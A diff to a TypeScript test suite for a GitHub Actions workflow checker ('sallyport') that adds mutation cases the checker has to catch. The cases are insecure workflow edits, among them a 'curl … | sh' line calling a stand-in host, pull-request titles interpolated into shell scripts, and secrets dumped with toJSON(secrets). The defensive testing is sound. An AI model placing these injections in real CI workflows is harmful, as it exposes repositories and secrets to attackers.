@@ -5,7 +5,8 @@ import { parse } from 'yaml';
 import { startersFor } from '../src/commands/init/starters.js';
 import { uses } from '../src/commands/init/types.js';
 import { settingNames } from '../src/config/schema.js';
-import { expressionsIn, isOurs, parseWorkflow, type Step, stepsOf } from './doubles/workflow.js';
+import { expressionsIn, isOurs, parseWorkflow, type Step } from './doubles/workflow.js';
+import { workflowProblems } from './doubles/workflow-problems.js';
 
 const root = resolve(import.meta.dirname, '..');
 const read = (path: string) => readFileSync(join(root, path), 'utf8');
@@ -23,73 +24,80 @@ const rights: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   schedule: { contents: 'read', issues: 'write' },
 };
 
-/** Values that no stranger chooses, or that are hashes and numbers. */
-const safe =
-  /^(secrets\.[A-Z_]+|vars\.[A-Z_]+|github\.(token|workflow|ref|event\.workflow_run\.id|event\.pull_request\.head\.sha)|runner\.temp|steps\.\w+\.outputs\.[\w-]+)$/;
-
-/** Conditions compare and never print. */
-const keys = {
-  top: ['name', 'on', 'permissions', 'concurrency', 'jobs'],
-  job: ['if', 'runs-on', 'timeout-minutes', 'permissions', 'steps'],
-  step: ['name', 'id', 'if', 'uses', 'with', 'env', 'run'],
-};
-
 const files = readdirSync(join(root, folder)).map((file) => [file, read(`${folder}/${file}`)] as const);
 
-describe.each(files)('%s', (file, text) => {
-  const workflow = parseWorkflow(text);
-  const steps = stepsOf(workflow);
-
-  test('has known keys only', () => {
-    const unknown = (value: object, known: readonly string[]) =>
-      Object.keys(value).filter((key) => !known.includes(key));
-    expect(unknown(workflow, keys.top)).toEqual([]);
-    for (const job of Object.values(workflow.jobs)) expect(unknown(job, keys.job)).toEqual([]);
-    for (const step of steps) expect(unknown(step, keys.step)).toEqual([]);
-  });
-
-  test('may do what it needs, per job', () => {
-    expect(workflow.permissions).toEqual({});
-    const granted = Object.values(workflow.jobs).map(({ permissions }) => permissions);
-    expect(granted).toEqual([rights[file.replace(/^sallyport-|\.yml$/g, '')]]);
-  });
-
-  test('puts nothing of a stranger into a script, a prompt or a setting', () => {
-    for (const { run, with: settings, env, uses: action } of steps) {
-      expect(expressionsIn(run)).toEqual([]);
-      expect(expressionsIn(action)).toEqual([]);
-      for (const expression of [...expressionsIn(settings), ...expressionsIn(env)]) expect(expression).toMatch(safe);
-      if (isOurs(action)) expect(JSON.stringify(settings)).not.toContain('github.event');
-    }
-  });
-
-  test('names every action by a commit, with its version', () => {
-    const others = [...text.matchAll(/^ +- uses: (.*)$/gm)]
-      .map(([, line = '']) => line)
-      .filter((line) => !isOurs(line));
-    for (const line of others) expect(line).toMatch(/^[\w-]+\/[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
-    for (const step of steps.filter(({ uses: action }) => isOurs(action))) expect(step.uses).toBe('OWNER/sallyport@v1');
-  });
-
-  test('leaves no token in the checkout, and checks out no fork beside secrets', () => {
-    for (const { uses: action, with: settings } of steps.filter(isCheckout)) {
-      expect(settings, action).toMatchObject({ 'persist-credentials': false });
-      expect(settings).not.toHaveProperty('ref');
-      expect(settings).not.toHaveProperty('repository');
-    }
-    if ('workflow_run' in workflow.on) expect(steps.filter(isCheckout)).toEqual([]);
-    const hasSecrets = expressionsIn(workflow.jobs).some((one) => one.startsWith('secrets.'));
-    if (file.includes('collect')) expect(hasSecrets).toBe(false);
-  });
-
-  test('gives the action inputs that it has', () => {
-    for (const { with: settings } of steps.filter(({ uses: action }) => isOurs(action))) {
-      for (const name of Object.keys(settings ?? {})) expect(settingNames).toContain(name);
-    }
-  });
+test.each(files)('%s has nothing wrong', (file, text) => {
+  expect(workflowProblems(text, rights[file.replace(/^sallyport-|\.yml$/g, '')] ?? {})).toEqual([]);
 });
 
-const isCheckout = ({ uses: action }: Step) => action?.startsWith('actions/checkout@') === true;
+/** Each a class of mistake that would open a repository; a change of a good workflow, and what has to be said of it. */
+const mistakes: readonly (readonly [file: string, from: string, to: string, problem: string])[] = [
+  [
+    'fork-collect',
+    '{ npm ci',
+    'echo "${{ github.event.pull_request.title }}"; { npm ci',
+    'pull_request.title in a script',
+  ],
+  ['fork-collect', '{ npm ci', 'echo ${{ github.head_ref }}; { npm ci', 'github.head_ref in a script'],
+  ['fork-collect', '{ npm ci', 'curl -s https://x.example/i | sh; { npm ci', 'a script that steers others'],
+  ['fork-collect', '{ npm ci', 'echo A=1 >> $GITHUB_ENV; { npm ci', 'a script that steers others'],
+  ['fork-collect', 'HEAD: ${{', 'KEY: ${{ secrets.KEY }}\n          HEAD: ${{', "secrets beside a pull request's code"],
+  ['fork-collect', 'HEAD: ${{', 'ALL: ${{ toJSON(secrets) }}\n          HEAD: ${{', 'toJSON(secrets) in a setting'],
+  ['fork-collect', 'pull_request:', 'pull_request_target:', 'a script beside secrets'],
+  ['comment', 'reaction: true', 'prompt: ${{ github.event.comment.body }}', 'an event in our settings'],
+  ['comment', 'reaction: true', 'args: ${{ github.event.issue.title }}', 'issue.title in a setting'],
+  ['comment', 'reaction: true', 'reactoin: true', 'no input reactoin'],
+  ['comment', 'permissions: {}', 'permissions: write-all', 'rights for the whole workflow'],
+  ['comment', 'permissions: {}\n', '', 'rights for the whole workflow'],
+  ['comment', 'contents: read', 'contents: write', 'other rights than the job needs'],
+  ['comment', '      contents: read\n', '      contents: read\n      id-token: write\n', 'other rights'],
+  ['comment', '@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', '@v5', 'is not pinned'],
+  ['comment', ' # v5.0.0', '', 'is not pinned'],
+  ['comment', 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', 'docker://alpine', 'is not pinned'],
+  ['comment', 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', './.github/x', 'is not pinned'],
+  ['comment', '          persist-credentials: false\n', '', 'a token in the checkout'],
+  ['comment', 'issue_comment:', 'issue_comments:', 'unknown key issue_comments'],
+  ['comment', 'timeout-minutes: 20', 'timeout-minute: 20', 'no timeout'],
+  ['comment', 'ubuntu-latest', 'self-hosted', 'another machine'],
+  ['comment', '    steps:', '    secrets: inherit\n    steps:', 'unknown key secrets'],
+  [
+    'fork-review',
+    '          fetch-depth: 0',
+    '          ref: ${{ github.event.pull_request.head.sha }}',
+    'a checkout of something else',
+  ],
+  ['fork-review', '          fetch-depth: 0', '          repository: mallory/repo', 'a checkout of something else'],
+  ['fork-review', '    steps:', '    steps:\n      - run: npm ci', 'a script beside secrets'],
+  ['fork-post', '    steps:', '    steps:\n      - run: cat handoff.json', 'code in a run that follows another'],
+  ['fork-post', '${{ runner.temp }}/handoff\n', '.\n', 'an artifact in the workspace'],
+  ['fork-post', "github.event.workflow_run.event == 'pull_request' && ", '', 'what started the run before'],
+  [
+    'fork-post',
+    'run-id: ${{ github.event.workflow_run.id }}',
+    'run-id: ${{ github.event.workflow_run.head_branch }}',
+    'head_branch in a setting',
+  ],
+];
+
+test.each(mistakes)('in sallyport-%s.yml %j as %j is told', (name, from, to, problem) => {
+  const [, text = ''] = files.find(([file]) => file === `sallyport-${name}.yml`) ?? [];
+  expect(text).toContain(from);
+  const problems = workflowProblems(
+    text.replace(from, () => to),
+    rights[name] ?? {},
+  );
+  expect(problems.join('\n')).toContain(problem);
+});
+
+test('the second phase follows a workflow that is there', () => {
+  const names = files.map(([, text]) => parseWorkflow(text).name);
+  for (const [, text] of files) {
+    const { workflow_run: follows } = parseWorkflow(text).on as {
+      readonly workflow_run?: { readonly workflows: readonly string[] };
+    };
+    for (const name of follows?.workflows ?? []) expect(names).toContain(name);
+  }
+});
 
 test('init writes the examples', () => {
   const model = ['model: anthropic/claude-sonnet-4-5', 'api-key: ${{ secrets.ANTHROPIC_API_KEY }}'];
